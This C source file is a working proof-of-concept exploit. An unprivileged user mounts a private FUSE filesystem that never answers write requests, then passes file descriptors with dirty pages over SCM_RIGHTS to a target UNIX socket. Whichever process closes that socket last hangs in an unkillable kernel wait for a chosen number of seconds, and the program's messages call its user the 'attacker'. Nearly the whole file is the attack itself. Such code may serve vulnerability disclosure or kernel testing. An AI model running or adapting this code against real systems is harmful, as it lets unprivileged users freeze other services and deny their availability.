// SPDX-License-Identifier: Apache-2.0
// fuse_wb CONTROL N HOLD: an unprivileged user (own userns, own FUSE server on /mnt with the writeback cache on) leaves
// N files with dirty pages, last-referenced from unread messages to the socket CONTROL. Whoever closes that socket last
// waits in fuse_release() -> write_inode_now(), which no signal ends, for HOLD seconds (then the server ends).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>
static void die(const char* w) {
  perror(w);
  exit(1);
}
static void put(const char* p, const char* t) {
  int f = open(p, O_WRONLY);
  if (f < 0 || write(f, t, strlen(t)) < 0) die(p);
  close(f);
}
static void server(int dev) {
  static char buf[1 << 17];
  for (;;) {
    ssize_t n = read(dev, buf, sizeof buf);
    if (n < 0) {
      if (errno == EINTR) continue;
      _exit(0);
    }
    struct fuse_in_header* in = (void*)buf;
    struct {
      struct fuse_out_header h;
      union {
        struct fuse_init_out i;
        struct fuse_entry_out e;
        struct fuse_attr_out a;
        struct fuse_open_out o;
        struct fuse_write_out w;
      } u;
    } out;
    memset(&out, 0, sizeof out);
    size_t len = 0;
    int err = 0;
    struct fuse_attr at = {
        .ino = in->nodeid, .mode = in->nodeid == 1 ? S_IFDIR | 0755 : S_IFREG | 0666, .nlink = 1, .blksize = 4096};
    switch (in->opcode) {
      case FUSE_FORGET:
      case FUSE_BATCH_FORGET:
      case FUSE_INTERRUPT:
        continue;
      case FUSE_INIT:
        out.u.i.major = 7;
        out.u.i.minor = 31;
        out.u.i.max_readahead = 65536;
        out.u.i.flags = FUSE_WRITEBACK_CACHE | FUSE_BIG_WRITES | FUSE_ASYNC_READ;
        out.u.i.max_background = 12;
        out.u.i.congestion_threshold = 10;
        out.u.i.max_write = 65536;
        out.u.i.time_gran = 1;
        len = sizeof out.u.i;
        break;
      case FUSE_LOOKUP: {
        unsigned long k = strtoul(buf + sizeof *in + 1, 0, 10) + 2;
        at.ino = k;
        at.mode = S_IFREG | 0666;
        out.u.e.nodeid = k;
        out.u.e.attr = at;
        out.u.e.attr_valid = 3600;
        out.u.e.entry_valid = 3600;
        len = sizeof out.u.e;
        break;
      }
      case FUSE_GETATTR:
        out.u.a.attr = at;
        out.u.a.attr_valid = 3600;
        len = sizeof out.u.a;
        break;
      case FUSE_OPEN:
      case FUSE_OPENDIR:
        out.u.o.fh = 1;
        len = sizeof out.u.o;
        break;
      case FUSE_WRITE:
      case FUSE_SETATTR:
        fprintf(stderr, "server: op %u of node %lu asked by pid %u: not answered\n", in->opcode,
                (unsigned long)in->nodeid, in->pid);
        continue;
      case FUSE_RELEASE:
      case FUSE_RELEASEDIR:
      case FUSE_FLUSH:
        break;
      default:
        err = -ENOSYS;
    }
    out.h.len = sizeof out.h + (err ? 0 : len);
    out.h.error = err;
    out.h.unique = in->unique;
    if (write(dev, &out, out.h.len) < 0) {
    }
  }
}
static void send_fd(int s, int fd, const char* text) {
  char c[CMSG_SPACE(sizeof fd)];
  memset(c, 0, sizeof c);
  struct iovec iov = {(void*)text, strlen(text)};
  struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = c, .msg_controllen = sizeof c};
  struct cmsghdr* h = CMSG_FIRSTHDR(&m);
  h->cmsg_level = SOL_SOCKET;
  h->cmsg_type = SCM_RIGHTS;
  h->cmsg_len = CMSG_LEN(sizeof fd);
  memcpy(CMSG_DATA(h), &fd, sizeof fd);
  if (sendmsg(s, &m, 0) < 0) die("sendmsg");
}
int main(int argc, char** argv) {
  if (argc != 4) return 2;
  int n = atoi(argv[2]), hold = atoi(argv[3]);
  char map[64], *dir = "/mnt";
  uid_t u = getuid();
  gid_t g = getgid();
  if (u == 0) {
    fprintf(stderr, "run me as a user\n");
    return 1;
  }
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) die("unshare");
  put("/proc/self/setgroups", "deny");
  snprintf(map, sizeof map, "0 %u 1", u);
  put("/proc/self/uid_map", map);
  snprintf(map, sizeof map, "0 %u 1", g);
  put("/proc/self/gid_map", map);
  int dev = open("/dev/fuse", O_RDWR | O_CLOEXEC);
  if (dev < 0) die("/dev/fuse");
  char opt[128];
  snprintf(opt, sizeof opt, "fd=%d,rootmode=40000,user_id=0,group_id=0", dev);
  if (mount("wb", dir, "fuse", 0, opt) < 0) die("mount");
  pid_t srv = fork();
  if (srv == 0) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    server(dev);
  }
  close(dev);
  for (int i = 0; i < n; i++) {
    char path[128];
    snprintf(path, sizeof path, "%s/%d", dir, i);
    int f = open(path, O_RDWR), keep = open(path, O_RDWR);
    if (f < 0 || keep < 0) die("open");
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0) die("socketpair");
    send_fd(pair[0], f, "x");
    close(f);  // clean: this flush is answered
    static char page[4096];
    memset(page, 'd', sizeof page);
    if (pwrite(keep, page, sizeof page, 0) != sizeof page) die("pwrite");  // dirty from here on
    int c = socket(AF_UNIX, SOCK_SEQPACKET, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strcpy(a.sun_path, argv[1]);
    if (connect(c, (void*)&a, sizeof a) < 0) die("connect");
    send_fd(c, pair[1], "{}");
    close(pair[1]);
    close(pair[0]);
    fprintf(stderr, "attacker: connection %d sent\n", i);
  }
  sleep(hold);
  kill(srv, SIGKILL);
  waitpid(srv, 0, 0);
  fprintf(stderr, "attacker: server ended\n");
  return 0;
}
